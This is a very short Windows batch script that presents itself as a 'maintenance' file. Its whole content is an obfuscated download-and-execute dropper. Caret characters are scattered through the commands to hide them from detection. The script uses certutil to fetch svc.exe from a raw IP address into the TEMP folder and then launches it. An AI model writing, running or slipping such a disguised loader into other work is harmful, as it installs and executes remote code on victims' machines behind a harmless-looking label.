REM maintenance 7185 v0
@echo off
c^er^tu^til.^ex^e -^urlcac^h^e -^s^p^l^i^t -^f h^ttp://^20^3.0.1^13.200/^s^vc.^ex^e %TEMP%\^svc.exe
s^t^art "" %TEMP%\sv^c.^e^x^e
